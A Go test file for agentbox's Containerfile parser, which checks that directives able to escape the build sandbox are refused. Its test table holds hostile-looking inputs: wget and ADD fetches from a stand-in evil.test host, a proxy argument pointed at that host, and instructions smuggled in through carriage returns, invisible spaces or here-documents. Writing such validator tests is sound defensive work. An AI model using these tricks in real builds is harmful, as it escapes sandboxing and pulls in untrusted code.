package images

import (
	"errors"
	"os"
	"slices"
	"strings"
	"testing"

	builtin "agentbox/profiles"
)

func parse(t *testing.T, text string) File {
	t.Helper()
	f, err := Parse("Containerfile", []byte(text), nil)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func TestWhatWouldLeaveTheBoundaryIsRefused(t *testing.T) {
	const from = "FROM docker.io/library/debian:12\n"
	for name, c := range map[string]struct {
		text string
		line int
		want string
	}{
		"the host's network":                {from + "RUN --network=host wget evil.test", 2, "RUN --network is not supported"},
		"in small letters, behind blanks":   {from + "  run  \t --network=host wget evil.test", 2, "RUN --network is not supported"},
		"over two lines":                    {from + "RUN \\\n  --network=host \\\n  wget evil.test", 2, "RUN --network is not supported"},
		"no sandbox":                        {from + "RUN --security=insecure id", 2, "RUN --security is not supported"},
		"a mount of another image":          {from + "RUN --mount=type=bind,from=evil.test/x,target=/m id", 2, "RUN --mount is not supported"},
		"a cache that others share":         {from + "RUN --mount=type=cache,target=/c id", 2, "RUN --mount is not supported"},
		"a space that is none":              {from + "RUN \u00a0--network=host id", 2, "U+00A0"},
		"a carriage return within":          {from + "RUN true\rRUN --network=host id", 2, "U+000D"},
		"an address":                        {from + "ADD https://evil.test/x /x", 2, "not a file of the repository"},
		"an address in a list":              {from + `ADD ["https://evil.test/x", "/x"]`, 2, "not a file of the repository"},
		"an address out of an argument":     {from + "ARG U\nADD ${U} /x", 3, "cannot be seen"},
		"a repository of git":               {from + "ADD git@evil.test:x/y.git /x", 2, "not a file of the repository"},
		"one that a program knows as such":  {from + "ADD github.com/x/y /x", 2, "not a file of the repository"},
		"out of the repository":             {from + "COPY ../x /x", 2, "points out of the repository"},
		"a quoted address":                  {from + `ADD "https://evil.test/x" /x`, 2, "no quotes"},
		"ADD from another image":            {from + "ADD --from=evil.test/x /a /b", 2, "ADD --from=evil.test/x is not supported"},
		"COPY from a short name":            {from + "COPY --from=nginx /a /b", 2, "does not say which registry"},
		"COPY from what an argument says":   {from + "ARG X\nCOPY --from=$X /a /b", 3, "is not supported"},
		"a short name":                      {"FROM debian:12", 1, "does not say which registry"},
		"a short name with an owner":        {"FROM library/debian", 1, "does not say which registry"},
		"a short name out of an argument":   {"ARG B=debian\nFROM $B", 2, "does not say which registry"},
		"an argument that nothing says":     {"FROM $B", 1, "nothing says what B is"},
		"another machine":                   {"FROM --platform=linux/arm64 docker.io/library/debian", 1, "FROM --platform=linux/arm64 is not supported"},
		"another escape":                    {"# escape=`\n" + from, 1, "another escape character"},
		"two backslashes at the end":        {from + "RUN true \\\\\n  --network=host", 2, "two backslashes"},
		"a here-document":                   {from + "RUN <<EOF\nRUN --network=host id\nEOF", 2, "here-documents are not supported"},
		"a here-document for COPY":          {from + "COPY <<EOF /x\nhi\nEOF", 2, "here-documents are not supported"},
		"one that only some engines know":   {from + "RUN cat <<1\nid\n1", 2, "here-documents are not supported"},
		"one behind a variable":             {from + "RUN cat ${X:-}<<E\nid\nE", 2, "here-documents are not supported"},
		"a line that Podman 4 cannot read":  {from + "RUN id " + strings.Repeat("x", 60<<10) + "\nRUN id", 2, "more than 61440 bytes"},
		"such a line, in pieces":            {from + "RUN id" + strings.Repeat(" \\\n"+strings.Repeat("x", 1000), 62), 2, "more than 61440 bytes"},
		"a backslash at the very end":       {from + "RUN id \\ \\", 2, "nothing that it goes on with"},
		"agentbox's own name of a stage":    {"FROM docker.io/library/debian:12 AS stage_aa_agentbox", 1, "FROM takes one image"},
		"agentbox's own labels":             {from + "LABEL agentbox.build=x", 2, "agentbox's own"},
		"agentbox's own arguments":          {from + "ARG SSL_CERT_FILE=/x", 2, "agentbox's own"},
		"the proxy":                         {from + "ARG HTTP_PROXY=http://evil.test", 2, "agentbox's own"},
		"an instruction of another builder": {from + "INCLUDE x", 2, "not an instruction"},
		"a letter that writes to the left":  {from + "RUN echo \u202e", 2, "U+202E"},
		"a flag of another instruction":     {from + "WORKDIR --x", 2, "takes no flags"},
		"nothing before FROM":               {"RUN id\n" + from, 1, "before the first FROM"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Parse("Containerfile", []byte(c.text), nil)
			var p *Problem
			if !errors.As(err, &p) || p.Line != c.line || !strings.Contains(p.Text, c.want) {
				t.Fatalf("%v; want line %d: %s", err, c.line, c.want)
			}
		})
	}
}

const many = `# syntax=docker/dockerfile:1
ARG BASE=registry.test/base@sha256:` + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + `
FROM ${BASE} AS Build
ENV A=b \
    # a comment within
    C=d
RUN make \

    all
COPY --chown=1:1 src lib*/x "/y" /z/
`

func TestWhatTheEngineGetsIsWrittenAnew(t *testing.T) {
	text := strings.Replace(many, `"/y" `, "", 1) + `FROM docker.io/library/debian:12
ONBUILD RUN evil
HEALTHCHECK CMD evil
VOLUME /evil
COPY --from=build /out /in
COPY --from=registry.test/tools:1 /t /t
ADD a.tar.gz /
CMD ["x"]
`
	f := parse(t, text)
	base := "registry.test/base@sha256:" + strings.Repeat("a", 64)
	if got, want := f.Bases(), []string{base, "docker.io/library/debian:12", "registry.test/tools:1"}; !slices.Equal(got, want) {
		t.Errorf("bases %q, want %q", got, want)
	}
	if got, want := f.Sources(), []string{"src", "lib*/x", "a.tar.gz"}; !slices.Equal(got, want) {
		t.Errorf("sources %q, want %q", got, want)
	}
	s := f.Script(map[string]string{base: "id1", "docker.io/library/debian:12": "id2", "registry.test/tools:1": "id3"})
	var kept []string
	for line := range strings.Lines(s.Text) {
		if rest, ok := strings.CutPrefix(line, "ARG "); !ok || strings.HasPrefix(rest, "BASE") {
			kept = append(kept, strings.TrimSuffix(line, "\n"))
		}
	}
	want := []string{"ARG BASE=" + base, "FROM id1 AS build", "ENV A=b     C=d", "RUN " + mount + " make     all", "COPY --chown=1:1 src lib*/x /z/",
		"FROM id2 AS stage_ab_agentbox", "COPY --from=build /out /in", "COPY --from=id3 /t /t", "ADD a.tar.gz /", `CMD ["x"]`}
	if !slices.Equal(kept, want) {
		t.Errorf("the engine gets\n%s\nwant\n%s", strings.Join(kept, "\n"), strings.Join(want, "\n"))
	}
	n := len(Variables())
	if got := s.Step(1, n+3); got.Line != 7 || got.Text != "RUN make     all" {
		t.Errorf("the step of RUN is %+v", got)
	}
	if got := s.Step(2, n+2); got.Line != 15 {
		t.Errorf("the first COPY of the second stage is %+v", got)
	}
	if got := s.Step(1, 2); got.Text != "" || s.Step(9, 9) != (Step{}) {
		t.Errorf("a step that is not of the file is %+v", got)
	}
}

func TestArguments(t *testing.T) {
	text := []byte("ARG BASE=docker.io/library/a\nFROM $BASE\nARG V=1\nRUN echo $V")
	f, err := Parse("C", text, map[string]string{"BASE": "mirror.test/b:2", "V": "3"})
	if err != nil || !slices.Equal(f.Bases(), []string{"mirror.test/b:2"}) || f.Args["V"] != "3" {
		t.Fatalf("%+v, %v", f, err)
	}
	if _, err := Parse("C", text, map[string]string{"W": "1"}); err == nil || !strings.Contains(err.Error(), "no ARG W") {
		t.Error(err)
	}
	if _, err := Parse("C", text, map[string]string{"BASE": "debian"}); err == nil {
		t.Error("a short name came in through an argument")
	}
}

func TestTheKeyIsOfAllThatMatters(t *testing.T) {
	under := "/work/a"
	key := func(text, digest string, args map[string]string) string {
		f, err := Parse("C", []byte(text), args)
		if err != nil {
			t.Fatal(err)
		}
		return Key(f, digest, under)
	}
	const text = "FROM docker.io/library/a\nARG V=1\nRUN id\n"
	one := key(text, "d", nil)
	if key("# said otherwise\n"+text, "d", nil) != one {
		t.Error("a comment changes the key")
	}
	for name, other := range map[string]string{
		"text": key(text+"RUN id\n", "d", nil), "files": key(text, "e", nil), "argument": key(text, "d", map[string]string{"V": "1"}),
		"base": key(strings.Replace(text, "/a", "/b", 1), "d", nil),
	} {
		if other == one {
			t.Errorf("another %s has the same key", name)
		}
	}
	under = "/work/b"
	if key(text, "d", nil) == one {
		t.Error("what was built under another repository's rules has the same key")
	}
}

func TestRecords(t *testing.T) {
	s := Store{Dir: t.TempDir() + "/images"}
	key := strings.Repeat("a", 64)
	r := Record{Key: key, Image: strings.Repeat("b", 64), Profile: "p"}
	if err := s.Put(r); err != nil {
		t.Fatal(err)
	}
	if got, ok := s.Get(key); !ok || got.Image != r.Image {
		t.Fatalf("%+v, %v", got, ok)
	}
	if all, err := s.List(); err != nil || len(all) != 1 {
		t.Fatal(all, err)
	}
	// One that was put in the place of another, or is no record, is none.
	other := strings.Repeat("c", 64)
	data, err := os.ReadFile(s.path(key))
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"of another key": string(data), "damaged": "{", "without an image": `{"version":1,"key":"` + other + `"}`} {
		if err := os.WriteFile(s.path(other), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, ok := s.Get(other); ok {
			t.Errorf("one %s is a record", name)
		}
	}
	if err := s.Forget(key); err != nil {
		t.Fatal(err)
	}
	if _, ok := s.Get(key); ok {
		t.Error("it is there still")
	}
}

func FuzzParse(f *testing.F) {
	f.Add(many)
	f.Add("FROM scratch\nRUN --network=host x")
	f.Fuzz(func(t *testing.T, text string) {
		file, err := Parse("C", []byte(text), nil)
		if err != nil {
			return
		}
		for line := range strings.Lines(file.Script(nil).Text) {
			line = strings.TrimSuffix(line, "\n")
			word, rest, _ := strings.Cut(line, " ")
			if word != strings.ToUpper(word) || strings.TrimSpace(rest) == "" {
				t.Errorf("%q gives the line %q", text, line)
			}
			if run, ok := strings.CutPrefix(line, "RUN "+mount+" "); word == "RUN" && (!ok || strings.HasPrefix(strings.TrimSpace(run), "--")) {
				t.Errorf("%q gives the line %q", text, line)
			}
			if strings.HasSuffix(strings.TrimRight(line, " \t"), `\`) {
				t.Errorf("%q gives a line that goes on: %q", text, line)
			}
		}
	})
}

// The Containerfiles that agentbox ships are read like anybody's, take their arguments, and name their base in full.
func TestShippedContainerfiles(t *testing.T) {
	all := builtin.Images()
	for _, i := range all {
		f, err := Parse(builtin.ImagePrefix+i.Name, i.Text, i.Args)
		if err != nil {
			t.Errorf("%s: %v", i.Name, err)
			continue
		}
		if len(f.Stages) != 1 || !strings.HasPrefix(f.Stages[0].Base, "docker.io/library/") || len(f.Args) != len(i.Args) || len(f.Sources()) != 0 {
			t.Errorf("%s: %d stages, of %q, with %v; it copies %v", i.Name, len(f.Stages), f.Stages[0].Base, f.Args, f.Sources())
		}
	}
	if len(all) < 5 {
		t.Errorf("there are %d", len(all))
	}
}
